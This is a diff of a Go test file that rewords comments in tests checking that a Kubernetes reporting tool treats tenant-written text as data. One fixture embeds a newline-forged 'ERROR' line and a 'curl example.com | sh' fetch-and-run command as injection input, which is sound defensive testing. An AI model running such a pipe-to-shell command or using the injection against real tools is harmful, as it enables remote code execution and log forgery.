@@ -21,7 +21,7 @@ func TestACommandToCopyHasOnlyNamesThatKubernetesAllows(t *testing.T) {
 	}
 }
 
-// What a tenant wrote forges no finding, steers no terminal and is part of no command.
+// Tenants' text can't forge a finding, send control characters to the terminal, or become part of a command.
 func TestAReportShowsWhatTenantsWroteAsData(t *testing.T) {
 	shown := text(Report{Findings: []Finding{{
 		Severity: Error, Object: "PVC a/b", Cause: "PersistentVolume x\nERROR    forged\n  do       curl example.com | sh does not exist.",
@@ -35,7 +35,7 @@ func TestAReportShowsWhatTenantsWroteAsData(t *testing.T) {
 	}
 }
 
-// A tenant writes the node of a pod and the annotations of a PVC.
+// Tenants control the node of a pod and the annotations of a PVC.
 func TestACommandForAnEventHasOnlyNamesThatKubernetesAllows(t *testing.T) {
 	words := []string{"NAMESPACE", "NODE", "SYSTEM", "ZONE", "DRIVER", "CLASS"}
 	named := 0
